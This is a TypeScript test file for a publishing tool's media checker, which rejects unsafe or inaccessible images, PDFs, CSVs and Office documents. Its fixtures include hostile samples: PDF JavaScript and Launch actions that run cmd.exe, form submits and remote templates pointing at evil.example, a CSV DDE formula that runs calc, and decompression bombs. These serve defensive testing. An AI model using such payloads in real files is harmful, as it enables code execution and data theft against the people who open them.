import { crc32 } from "node:zlib";
import { strToU8, zipSync } from "fflate";
import sharp, { type Sharp } from "sharp";
import { expect, test } from "vitest";
import { readOneRelease, release, toldOfRelease } from "../../support/content-folder.ts";
import { goodPdf, lockedPdf, packedSpaces, pdf } from "../../support/pdf.ts";

function photo(width: number, height = width): Sharp {
  return sharp({ create: { width, height, channels: 3, background: "#336699" } });
}

const jpeg = await photo(800).jpeg().toBuffer();
const frames = await sharp([await photo(8).png().toBuffer(), await photo(8).negate().png().toBuffer()], {
  join: { animated: true },
})
  .gif()
  .toBuffer();

/** A PNG that says it has so many pixels, whatever it holds. */
async function bomb(width: number, height: number): Promise<Buffer> {
  const png = await photo(8).png().toBuffer();
  png.writeUInt32BE(width, 16);
  png.writeUInt32BE(height, 20);
  png.writeUInt32BE(crc32(png.subarray(12, 29)), 29);
  return png;
}

const again = "save the picture again as JPEG or PNG";

test.for<[string, string, string | Buffer, string]>([
  ["a text", "a.jpg", "These are words.", `is not a picture that browsers can show → ${again}`],
  [
    "an SVG",
    "a.png",
    '<svg xmlns="http://www.w3.org/2000/svg"/>',
    `is not a picture that browsers can show → ${again}`,
  ],
  ["nothing", "a.jpg", "", "is empty → copy the file here again"],
  [
    "half a photo",
    "a.jpg",
    jpeg.subarray(0, jpeg.length / 2),
    "is damaged or cut short → copy the file again from the phone or camera",
  ],
  [
    "the beginning of a photo",
    "a.jpg",
    jpeg.subarray(0, 20),
    "is damaged or cut short → copy the file again from the phone or camera",
  ],
  ["a PNG", "a.jpg", await photo(8).png().toBuffer(), "is a PNG inside → rename the file to a.png"],
  ["a JPEG", "a.png", jpeg, "is a JPG inside → rename the file to a.jpg"],
  [
    "a HEIC of an iPhone",
    "a.jpg",
    Buffer.from("\0\0\0\x18ftypheic\0\0\0\0mif1heic"),
    "is a HEIC picture inside, as iPhones take them, which most browsers cannot show → save the picture as JPEG: in Windows, open it in Photos and choose Save as. On an iPhone, choose Settings, Camera, Formats, Most Compatible",
  ],
  [
    "a GIF that moves",
    "a.gif",
    frames,
    "moves, and readers could not stop it → use a still picture, or link to a film that can be stopped",
  ],
  [
    "400 million pixels",
    "a.png",
    await bomb(20_000, 20_000),
    "has 20,000 × 20,000 pixels, and a picture can have 150 million → make the picture smaller: 4,000 pixels across is more than enough",
  ],
  [
    "a screenshot of a whole page",
    "a.png",
    await bomb(1080, 17_000),
    "has 1,080 × 17,000 pixels, and is too tall to be shown → cut the picture into parts",
  ],
])("tells that %s is no picture to publish", async ([, name, bytes, message]) => {
  const told = await toldOfRelease(release({ line: `image: {file: ${name}, alt: A library}` }), {
    [`media/${name}`]: bytes,
  });
  expect(told).toEqual([`7:15  image.file  content/media/${name} ${message}`]);
});

test.for<[string, string, Buffer, { width: number; height: number }]>([
  [
    "a photo of CMYK",
    "a.jpg",
    await photo(800, 600).toColourspace("cmyk").jpeg().toBuffer(),
    { width: 800, height: 600 },
  ],
  ["a photo 12,000 pixels wide", "a.jpg", await photo(12_000, 1500).jpeg().toBuffer(), { width: 1280, height: 160 }],
  [
    "a photo of a camera that was turned",
    "a.jpg",
    await photo(2000, 1000).withMetadata({ orientation: 6 }).jpeg().toBuffer(),
    { width: 1000, height: 2000 },
  ],
  ["an AVIF", "a.avif", await photo(640, 480).avif({ effort: 0 }).toBuffer(), { width: 640, height: 480 }],
  ["a GIF that stands still", "a.gif", await photo(640, 480).gif().toBuffer(), { width: 640, height: 480 }],
])("takes %s", async ([, name, bytes, size]) => {
  const { release: read, told } = await readOneRelease(release({ line: `image: {file: ${name}, alt: A library}` }), {
    [`media/${name}`]: bytes,
  });
  expect(told).toEqual([]);
  expect(read?.picture).toMatchObject(size);
});

test("advises on a picture that will be small or blurred", async () => {
  const header = release({ line: "image: {file: a.jpg, alt: A library}" });
  expect(await toldOfRelease(header, { "media/a.jpg": await photo(400).jpeg().toBuffer() })).toEqual([
    "7:15  image  Advice: content/media/a.jpg is 400 pixels wide, and will be small or blurred on most screens → choose a picture that is 1,280 pixels wide or more",
  ]);
});

test("advises on a picture that newspapers may have and cannot print", async () => {
  const pictures = { "media/a.webp": await photo(800).webp().toBuffer() };
  const of = (line: string) => toldOfRelease(release({ line }), pictures);
  expect(await of("gallery: [{file: a.webp, alt: A library, licence: CC BY 4.0}]")).toEqual([
    "7:18  gallery  Advice: content/media/a.webp is not offered to newspapers, which print only JPEG and PNG → use the JPEG or PNG that it was made from, or delete its `licence`",
  ]);
  expect(await of("gallery: [{file: a.webp, alt: A library, licence: none}]")).toEqual([]);
  expect(await of("image: {file: a.webp, alt: A library}")).toEqual([]);
});

const withDocument = (name: string) => release({ line: `documents: [{file: ${name}, title: The plan}]` });
const core = (title: string) =>
  strToU8(`<cp:coreProperties xmlns:cp="urn:cp" xmlns:dc="urn:dc"><dc:title>${title}</dc:title></cp:coreProperties>`);
const office = "application/vnd.openxmlformats-officedocument";
const types = (main: string) =>
  strToU8(
    `<Types><Default Extension="xlsx" ContentType="${office}.spreadsheetml.sheet"/><Override PartName="/word/document.xml" ContentType="${office}.${main}.main+xml"/></Types>`,
  );
const word = {
  "[Content_Types].xml": types("wordprocessingml.document"),
  "docProps/core.xml": core("Plan &amp; budget"),
  "docProps/app.xml": strToU8("<Properties><Pages>14</Pages></Properties>"),
};

const relation = (type: string, target: string, mode = "Internal") =>
  strToU8(
    `<Relationships xmlns="urn:r"><Relationship Id="r1" Type="http://schemas.example/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
  );

test.for([
  ["a link to a page", "hyperlink", "https://www.gov.uk/"],
  ["a template on the author's machine", "attachedTemplate", "file:///C:\\Templates\\Council.dotm"],
])("takes a document with %s", async ([, type, target]) => {
  const bytes = zipSync({ ...word, "word/_rels/document.xml.rels": relation(type ?? "", target ?? "", "External") });
  expect(await toldOfRelease(withDocument("a.docx"), { "media/a.docx": bytes })).toEqual([]);
});

test("takes a table of words and numbers", async () => {
  const table = 'name,sum\nA,-5\n"B, +44 1632 960100",@northgate\n';
  expect(await toldOfRelease(withDocument("a.csv"), { "media/a.csv": table })).toEqual([]);
});

test.for<[string, string, string | Uint8Array, string]>([
  ["nothing", "a.pdf", "", "is empty → copy the file here again"],
  [
    "a text",
    "a.pdf",
    "These are words.",
    "is not a PDF inside, despite its name → save the file again in the program that made it",
  ],
  ["half a PDF", "a.pdf", goodPdf({ pages: 50 }).subarray(0, 3000), "is cut short → copy the file here again"],
  [
    "a PDF with nothing in it",
    "a.pdf",
    "%PDF-1.7\nwords\n%%EOF\n",
    "is a PDF that cannot be opened → save the document as PDF again in the program that made it",
  ],
  [
    "a PDF whose pages are nothing but their own list",
    "a.pdf",
    "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
    "is a PDF that cannot be opened → save the document as PDF again in the program that made it",
  ],
  [
    "a PDF that unpacks to gigabytes before it can be opened",
    "a.pdf",
    goodPdf({ packedMetadata: packedSpaces(6000) }),
    "takes too much time or memory to open → save the document as PDF again in the program that made it",
  ],
  [
    "a PDF with a program",
    "a.pdf",
    goodPdf({ script: "app.alert\\(1\\);" }),
    "runs a program, sends something or opens something else → save the document as PDF again, not as a form with scripts",
  ],
  ...[
    ["at its first page", {}, "/AA << /O << /S /JavaScript /JS (x) >> >>"],
    [
      "after a step",
      { catalog: "/OpenAction << /S /GoTo /D [6 0 R /Fit] /Next << /S /J#61vaScript /JS (x) >> >>" },
      "",
    ],
    ["on the machine", { catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" }, ""],
    ["in a link", {}, "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>]"],
    ["that sends a form", { catalog: "/AA << /WC << /S /SubmitForm /F (http://evil.example/) >> >>" }, ""],
    ["that opens a page of another", { catalog: "/OpenAction << /S /URI /URI (http://evil.example/) >>" }, ""],
    ["that opens another file", { catalog: "/OpenAction << /S /GoToR /F (//evil.example/x.pdf) >>" }, ""],
  ].map(([where, said, page]): [string, string, Buffer, string] => [
    `a PDF with an action ${where}`,
    "a.pdf",
    goodPdf({ ...(said as object), page: page as string }),
    "runs a program, sends something or opens something else → save the document as PDF again, not as a form with scripts",
  ]),
  [
    "a PDF with a file in it",
    "a.pdf",
    goodPdf({ catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>" }),
    "has other files inside it → take them out, and put each next to it in media/",
  ],
  [
    "a program before a PDF",
    "a.pdf",
    Buffer.concat([Buffer.from("MZ\x90\0 "), goodPdf()]),
    "is not a PDF inside, despite its name → save the file again in the program that made it",
  ],
  [
    "a formula",
    "a.csv",
    `name,sum\r\nA,-5\r\n"=cmd|' /C calc'!A0",1\r\n`,
    "has a formula in line 3, which spreadsheet programs run → write the result of the formula",
  ],
  [
    "a page before a Word document",
    "a.docx",
    Buffer.concat([Buffer.from("<html>"), zipSync(word)]),
    "cannot be opened as a document of its kind → save the document again in the program that made it",
  ],
  ...[
    ["word/_rels/document.xml.rels", "vbaProject", "vba.bin", ""],
    ["word\\vbaProject.bin", "", "", ""],
    ["xl/macrosheets/sheet1.xml", "", "", ""],
  ].map(([path = "", type = "", target = ""]): [string, string, Uint8Array, string] => [
    `macros of another kind: ${path}`,
    "a.docx",
    zipSync({ ...word, [path]: relation(type, target) }),
    "has macros in it, which are programs → save the document without them: in Word, Save As, Word Document (*.docx)",
  ]),
  [
    "macros by its type",
    "a.docx",
    zipSync({
      ...word,
      "[Content_Types].xml": strToU8(
        '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      ),
    }),
    "has macros in it, which are programs → save the document without them: in Word, Save As, Word Document (*.docx)",
  ],
  [
    "an object of another program",
    "a.docx",
    zipSync({ ...word, "word/_rels/document.xml.rels": relation("oleObject", "embeddings/oleObject1.bin") }),
    "has an object from another program in it, which may be a program itself → put a picture of the object in its place",
  ],
  ...["http://evil.example/t.dotm", "\\\\evil.example\\t.dotm", "file://evil.example/t.dotm"].map(
    (target): [string, string, Uint8Array, string] => [
      `a template at ${target}`,
      "a.docx",
      zipSync({ ...word, "word/_rels/settings.xml.rels": relation("attachedTemplate", target, "External") }),
      "loads something from elsewhere when it is opened → keep it inside the document: in Word, File, Info, Edit Links to Files, Break Link",
    ],
  ),
  [
    "a page before a PDF",
    "a.pdf",
    Buffer.concat([Buffer.from("<html><script>1</script>\n"), goodPdf()]),
    "is not a PDF inside, despite its name → save the file again in the program that made it",
  ],
  [
    "macros",
    "a.docx",
    zipSync({ ...word, "word/vbaProject.bin": strToU8("x") }),
    "has macros in it, which are programs → save the document without them: in Word, Save As, Word Document (*.docx)",
  ],
  [
    "a PDF with a password",
    "a.pdf",
    lockedPdf(),
    "asks for a password before it opens → save the PDF without one: in Word, Save as PDF, Options, untick Encrypt the document with a password",
  ],
  [
    "a text",
    "a.docx",
    "These are words.",
    "cannot be opened as a document of its kind → save the document again in the program that made it",
  ],
  [
    "a zip of something else",
    "a.docx",
    zipSync({ "a.txt": strToU8("x") }),
    "cannot be opened as a document of its kind → save the document again in the program that made it",
  ],
  ["a Word document", "a.xlsx", zipSync(word), "is a Word document inside → rename the file to a.docx"],
  [
    "a spreadsheet",
    "a.docx",
    zipSync({ "[Content_Types].xml": types("spreadsheetml.sheet") }),
    "is an Excel spreadsheet inside → rename the file to a.xlsx",
  ],
  [
    "an OpenDocument spreadsheet",
    "a.xlsx",
    zipSync({ mimetype: strToU8("application/vnd.oasis.opendocument.spreadsheet") }),
    "is an OpenDocument spreadsheet inside → rename the file to a.ods",
  ],
  [
    "a package of no office program",
    "a.pptx",
    zipSync({ "[Content_Types].xml": strToU8("<Types/>") }),
    "cannot be opened as a document of its kind → save the document again in the program that made it",
  ],
  [
    "a document with a password",
    "a.docx",
    Buffer.from("d0cf11e0a1b11ae1", "hex"),
    "is locked by a password, or saved in the old format of Office → save the document without a password (File, Info, Protect Document) under a new name that ends in x or odt",
  ],
])("tells that %s is no document to publish: %s", async ([, name, bytes, message]) => {
  expect(await toldOfRelease(withDocument(name), { [`media/${name}`]: bytes })).toEqual([
    `7:20  documents[1].file  content/media/${name} ${message}`,
  ]);
});

test("advises on what keeps readers out of a PDF", async () => {
  const advice = "7:20  documents  Advice: content/media/a.pdf";
  expect(await toldOfRelease(withDocument("a.pdf"), { "media/a.pdf": pdf({ words: "Words" }) })).toEqual([
    `${advice} does not say its language, so a screen reader may read it out in the wrong one → in Word, choose Review, Language, Set Proofing Language, then save as PDF again`,
    `${advice} has no tags, so a screen reader cannot find its headings and tables → in Word, choose Save as PDF, Options, and tick Document structure tags for accessibility`,
    `${advice} has no title for windows and screen readers → in Word, choose File, Info, Title, then save as PDF again`,
  ]);
  const scanned = `${advice} holds pictures of pages but no text, so nobody can search it or hear it read out → save the original document as PDF, or scan again with text recognition (OCR)`;
  expect(await toldOfRelease(withDocument("a.pdf"), { "media/a.pdf": goodPdf({ words: "" }) })).toEqual([scanned]);
  const untagged = goodPdf({ words: "", isTagged: false });
  expect(await toldOfRelease(withDocument("a.pdf"), { "media/a.pdf": untagged })).toEqual([
    `${advice} has no tags, so a screen reader cannot find its headings and tables → in Word, choose Save as PDF, Options, and tick Document structure tags for accessibility`,
    scanned,
  ]);
});

test("advises on a PDF that unpacks to more than can be looked through", async () => {
  const told = await toldOfRelease(withDocument("a.pdf"), {
    "media/a.pdf": goodPdf({ packed: packedSpaces(6000) }),
    "media/b.pdf": goodPdf(),
  });
  expect(told).toEqual([
    "7:20  documents  Advice: content/media/a.pdf is so large when unpacked that it could not be searched, and phones may not open it → save the document as PDF again in the program that made it",
  ]);
});

test.for<[string, Buffer]>([
  ["zeros after its end", Buffer.concat([goodPdf(), Buffer.alloc(4096)])],
  ["bytes before its header", Buffer.concat([Buffer.from("efbbbf0d0a", "hex"), goodPdf()])],
])("takes a PDF with %s", async ([, bytes]) => {
  expect(await toldOfRelease(withDocument("a.pdf"), { "media/a.pdf": bytes })).toEqual([]);
});

test("advises on a PDF in the text where it is linked first", async () => {
  const body = "\nRead [the plan](/media/a.pdf), [all of it](/media/a.pdf).\n";
  expect(await toldOfRelease(release({}, body), { "media/a.pdf": goodPdf({ isTagged: false }) })).toEqual([
    "9:17  text  Advice: content/media/a.pdf has no tags, so a screen reader cannot find its headings and tables → in Word, choose Save as PDF, Options, and tick Document structure tags for accessibility",
  ]);
});

test.for<[string, string, Uint8Array, { pages: number | undefined; title: string }]>([
  ["a PDF", "a.pdf", goodPdf({ pages: 3 }), { pages: 3, title: "Minutes of Cabinet" }],
  ["a Word document", "a.docx", zipSync(word), { pages: 14, title: "Plan & budget" }],
  [
    "an OpenDocument text",
    "a.odt",
    zipSync({
      mimetype: strToU8("application/vnd.oasis.opendocument.text"),
      "meta.xml": strToU8(
        '<office:meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Plan</dc:title><meta:document-statistic meta:page-count="9"/></office:meta>',
      ),
    }),
    { pages: 9, title: "Plan" },
  ],
])("takes title and pages from %s", async ([, name, bytes, facts]) => {
  const { release: read, told } = await readOneRelease(release({ line: `documents: [{file: ${name}}]` }), {
    [`media/${name}`]: bytes,
  });
  expect(told).toEqual([]);
  expect(read?.documents[0]).toMatchObject(facts);
});

test("asks for a title where the file's own says nothing", async () => {
  const header = release({ line: "documents: [{file: a.docx}]" });
  const file = zipSync({ ...word, "docProps/core.xml": core("Microsoft Word - plan v3.docx") });
  expect(await toldOfRelease(header, { "media/a.docx": file })).toEqual([
    '7:13  documents[1].title  `title` is missing → add a line, for example title: "Minutes of the meeting"',
  ]);
});

test.for([
  ["Click here", 'the title "Click here" does not say what the document is → Minutes of Cabinet'],
  ["(PDF, 2MB)", 'the title "(PDF, 2MB)" does not say what the document is → Minutes of Cabinet'],
  ["plan.pdf", 'the title "plan.pdf" is the name of a file → Minutes of Cabinet'],
] as const)("refuses the title %j for a document", async ([title, message]) => {
  const header = release({ line: `documents: [{file: a.pdf, title: "${title}"}]` });
  expect(await toldOfRelease(header, { "media/a.pdf": goodPdf() })).toEqual([
    `7:34  documents[1].title  ${message}\n    documents: [{file: a.pdf, title: "Minutes of Cabinet"}]`,
  ]);
  expect(await toldOfRelease(header, { "media/a.pdf": pdf({ words: "Words" }) })).toContain(
    `7:34  documents[1].title  ${message.replace("Minutes of Cabinet", "write what the document is called")}`,
  );
});

test.for([
  ["Library plan (PDF, 2MB)", "Library plan"],
  ["Library plan - [pdf]", "Library plan"],
  ["Library plan (Word document, 14 pages)", "Library plan"],
  ["Cabinet report (March 2026)", "Cabinet report (March 2026)"],
  ["Volunteering (Word of mouth)", "Volunteering (Word of mouth)"],
  ["Plan (2 of 3)", "Plan (2 of 3)"],
  ["How to make a PDF", "How to make a PDF"],
] as const)("leaves kind and size to the page: the title %j is %j", async ([title, shown]) => {
  const header = release({ line: `documents: [{file: a.pdf, title: "${title}"}]` });
  const { release: read, told } = await readOneRelease(header, { "media/a.pdf": goodPdf() });
  expect(told).toEqual([]);
  expect(read?.documents[0]?.title).toBe(shown);
});

test.for([
  [
    "READ ALL ABOUT THE PLAN of 2026",
    '"READ ALL ABOUT THE PLAN" is in capitals, which are hard to read and may be read out letter by letter → use small letters, with capitals only for names and to start a sentence',
  ],
  [
    "Full report",
    'the title "Full report" says what kind of document it is, not which one → write what the document is called',
  ],
] as const)("advises on the title %j of a document", async ([title, message]) => {
  const header = release({ line: `documents: [{file: a.pdf, title: "${title}"}]` });
  expect(await toldOfRelease(header, { "media/a.pdf": goodPdf() })).toEqual([
    `7:34  documents[1].title  Advice: ${message}`,
  ]);
});

test("advises on the title that a document gives itself", async () => {
  const file = goodPdf({ title: "READ ALL ABOUT THE PLAN" });
  expect(await toldOfRelease(release({ line: "documents: [{file: a.pdf}]" }), { "media/a.pdf": file })).toEqual([
    '7:13  documents[1].title  Advice: "READ ALL ABOUT THE PLAN" is in capitals, which are hard to read and may be read out letter by letter → use small letters, with capitals only for names and to start a sentence',
  ]);
});

const slugs = "the name becomes an address, which has only small letters, digits and hyphens";

test.for([
  [
    "IMG_1234.JPG",
    "IMG_1234.JPG",
    `content/media/IMG_1234.JPG is there, but ${slugs} → rename the file to img-1234.jpg, and write that name here`,
  ],
  [
    "IMG_1234.JPG",
    "img-1234.jpg",
    `content/media/IMG_1234.JPG is there, but ${slugs} → rename the file to img-1234.jpg`,
  ],
  ["Library.JPG", "library.jpg", `content/media/Library.JPG is there, but ${slugs} → rename the file to library.jpg`],
  [
    "My photo.jpg",
    "My photo.jpg",
    `content/media/My photo.jpg is there, but ${slugs} → rename the file to my-photo.jpg, and write that name here`,
  ],
  [
    "IMG_1234.HEIC",
    "IMG_1234.HEIC",
    "content/media/IMG_1234.HEIC is there, but most browsers cannot show HEIC pictures, as iPhones take them → save the picture as JPEG: in Windows, open it in Photos and choose Save as. On an iPhone, choose Settings, Camera, Formats, Most Compatible",
  ],
] as const)("tells that the photo %s, named as %s, is there", async ([file, named, message]) => {
  const header = release({ line: `image: {file: ${named}, alt: A library}` });
  expect(await toldOfRelease(header, { [`media/${file}`]: jpeg, "media/library-2.jpg": jpeg })).toContain(
    `7:15  image.file  ${message}`,
  );
});

test("tells an alternative text and a title that are the name of their own file", async () => {
  const picture = release({ line: "image: {file: northgate-library.jpg, alt: northgate-library}" });
  expect(await toldOfRelease(picture, { "media/northgate-library.jpg": jpeg })).toEqual([
    '7:43  image.alt  the alternative text "northgate-library" is the name of a file → write what the picture shows, for someone who cannot see it',
  ]);
  const document = release({ line: "documents: [{file: plan-v3.pdf, title: Plan-v3}]" });
  expect(await toldOfRelease(document, { "media/plan-v3.pdf": pdf({ words: "Words" }) })).toContain(
    '7:40  documents[1].title  the title "Plan-v3" is the name of a file → write what the document is called',
  );
});

test("offers the name as it is where it was typed in capitals, with the line", async () => {
  const header = release({ line: "image: {file: Library.JPG, alt: A library}" });
  expect(await toldOfRelease(header, { "media/library.jpg": jpeg })).toEqual([
    "7:15  image.file  there is no file content/media/Library.JPG → write library.jpg, or put the file there\n    image: {file: library.jpg, alt: A library}",
  ]);
});

test("tells a photo in the text by its right name too", async () => {
  const body = "\nWords.\n\n![A library](/media/IMG_1234.JPG)\n";
  expect(await toldOfRelease(release({}, body), { "media/IMG_1234.JPG": jpeg })).toContain(
    `11:14  text  content/media/IMG_1234.JPG is there, but ${slugs} → rename the file to img-1234.jpg, and write that name here`,
  );
});
